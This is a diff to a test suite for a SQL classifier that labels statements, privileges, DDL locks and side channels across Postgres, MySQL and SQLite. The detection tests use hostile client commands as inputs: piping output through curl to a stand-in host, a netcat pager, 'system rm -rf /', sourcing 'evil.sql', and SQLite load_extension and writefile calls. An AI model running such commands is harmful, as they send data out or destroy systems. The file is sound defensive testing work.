@@ -149,9 +149,13 @@ describe('classifyUnparsed', () => {
   });
 
   it('reads privileges, roles, session and transaction control', () => {
-    expect(actions(one('GRANT ALL ON TABLE foo TO bob'))).toEqual([['grant', 'foo', false, 'top']]);
-    expect(actions(one('GRANT admin TO bob'))).toEqual([['grant_role', null, false, 'top']]);
-    expect(actions(one('REVOKE SELECT ON t FROM PUBLIC'))).toEqual([['revoke', 't', false, 'top']]);
+    // postgres targets are schema-qualified and role grants name the role, as the parsed path reports them
+    expect(actions(one('GRANT ALL ON TABLE foo TO bob'))).toEqual([['grant', 'public.foo', false, 'top']]);
+    expect(actions(one('GRANT admin TO bob'))).toEqual([['grant_role', 'admin', false, 'top']]);
+    expect(actions(one('REVOKE SELECT ON t FROM PUBLIC'))).toEqual([['revoke', 'public.t', false, 'top']]);
+    expect(one('GRANT ALL ON users TO PUBLIC garbage').privileges).toMatchObject([
+      { operation: 'grant', privileges: ['all'], objectType: 'table', objects: ['public.users'], grantees: ['public'], withGrantOption: false },
+    ]);
     expect(actions(one("CREATE USER 'x'@'%' IDENTIFIED BY 'p'", 'mysql'))).toEqual([['create_role', 'x@%', false, 'top']]);
     expect(actions(one("SET lock_timeout = '1s'"))).toEqual([['set', 'lock_timeout', false, 'top']]);
     expect(actions(one('SET GLOBAL max_connections = 5', 'mysql'))).toEqual([['set_config', 'max_connections', false, 'top']]);
@@ -243,5 +247,56 @@ describe('classifyUnparsed: FROM lists', () => {
   it('reads tables after derived tables and table functions in a comma list', () => {
     const f = one('SELECT * FROM (SELECT * FROM a) s, generate_series(1, 3) g, b JOIN c ON true, d WHERE 1 = 1 garbage');
     expect(tables(f).map((t) => t[0]).sort()).toEqual(['public.a', 'public.b', 'public.c', 'public.d']);
+  });
+
+  it('reads the statements that begin after garbage, fail closed, without repeating nested ones', () => {
+    const f = one('xyzzy garbage DROP TABLE users TRUNCATE t');
+    expect(f.statementKind).toBe('unknown');
+    expect(actions(f)).toEqual([
+      ['other', null, false, 'top'],
+      ['drop_table', 'public.users', false, 'top'],
+      ['truncate', 'public.t', false, 'top'],
+    ]);
+    expect(f.ddl.map((d) => [d.operation, d.table, d.lock])).toEqual([
+      ['drop_table', 'public.users', 'ACCESS EXCLUSIVE'],
+      ['truncate', 'public.t', 'ACCESS EXCLUSIVE'],
+    ]);
+    // after a known head too; a CTE's DELETE stays nested, once
+    expect(actions(one('SELECT 1 \ufffd DROP TABLE x')).map((a) => a[0])).toEqual(['select', 'drop_table']);
+    expect(actions(one('WITH a AS (WITH b AS (DELETE FROM users RETURNING 1) SELECT 1) SELECT 1 garbage'))).toEqual([
+      ['delete', 'public.users', true, 'cte'],
+      ['select', null, false, 'top'],
+    ]);
+    // not clauses that look alike, nor the statement EXPLAIN does not run
+    expect(actions(one('CREATE TABLE t (a int REFERENCES u ON DELETE CASCADE ON UPDATE SET NULL) garbage')).map((a) => a[0])).toEqual(['create_table']);
+    expect(actions(one('GRANT SELECT ON t TO u WITH GRANT OPTION garbage')).map((a) => a[0])).toEqual(['grant']);
+    expect(actions(one('EXPLAIN DELETE FROM t x y')).map((a) => a[0])).toEqual(['explain']);
+  });
+
+  it('reads client commands that run programs or unanalysed files', () => {
+    const [o, i] = classifyAll('\\o |curl -d @- http://x\n\\i evil.sql\n');
+    expect(actions(o)).toEqual([['other', 'shell', false, 'top']]);
+    expect(o.functions.map((x) => [x.name, x.category])).toEqual([['\\o', 'program']]);
+    expect(actions(i)).toEqual([['dynamic_sql', 'evil.sql', false, 'top']]);
+    expect(i.dynamicSql).toMatchObject([{ via: 'other', constant: false }]);
+    const [, sys, src] = classifyAll('SELECT 1;\nsystem rm -rf /\nsource evil.sql', 'mysql');
+    expect(sys.functions.map((x) => [x.name, x.category])).toEqual([['\\!', 'program']]);
+    expect(actions(src)).toEqual([['dynamic_sql', 'evil.sql', false, 'top']]);
+    const pagers = classifyAll('\\P curl -d @- http://x\npager nc x 1\n\\P\n', 'mysql');
+    expect(pagers.map((f) => f.functions.map((x) => x.category))).toEqual([['program'], ['program'], []]);
+  });
+
+  it('resolves MySQL multi-table DELETE aliases to their tables', () => {
+    expect(actions(one('DELETE u, o FROM users u JOIN orders AS o ON u.id = o.uid', 'mysql')).map((a) => a[1])).toEqual(['users', 'orders']);
+    expect(actions(one('DELETE FROM u USING (users u JOIN orders o ON f(a, b))', 'mysql')).map((a) => a[1])).toEqual(['users']);
+    expect(tables(one('DELETE u FROM users u', 'mysql'))).toEqual([['users', ['write', 'read']]]);
+  });
+
+  it('reads SQLite VACUUM INTO and the file and library side channels of calls', () => {
+    expect(actions(one("VACUUM INTO '/tmp/b.db'", 'sqlite'))).toEqual([
+      ['vacuum', null, false, 'top'],
+      ['write_server_file', '/tmp/b.db', false, 'top'],
+    ]);
+    expect(actions(one("SELECT load_extension('/x.so'), writefile('/y', 1)", 'sqlite')).map((a) => a[0])).toEqual(['select', 'load_library', 'write_server_file']);
   });
 });
